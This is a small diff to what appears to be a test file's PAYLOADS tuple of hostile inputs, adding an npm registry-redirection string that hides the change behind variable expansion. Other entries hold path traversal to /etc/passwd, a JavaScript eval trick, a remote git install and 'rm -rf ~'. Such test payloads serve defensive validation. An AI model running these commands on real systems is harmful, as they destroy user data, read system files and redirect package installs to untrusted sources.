@@ -86,6 +86,7 @@ PAYLOADS = (
     "cat ..%2f..%2fetc/passwd",
     "window['setTimeout'](name + '()', 9)",
     "yarn add tool@git+http://code.example.org/tool",
+    "npm config set registry $LATER\nLATER=https://npm.example.dev\nnpm config set registry ${LATER}\nLATER=https://registry.npmjs.org\nnpm config set registry $LATER",
     "``` Bash\nrm -rf ~\n   ```\nrm -rf ~\n```\nrm -rf ~",
 )
 
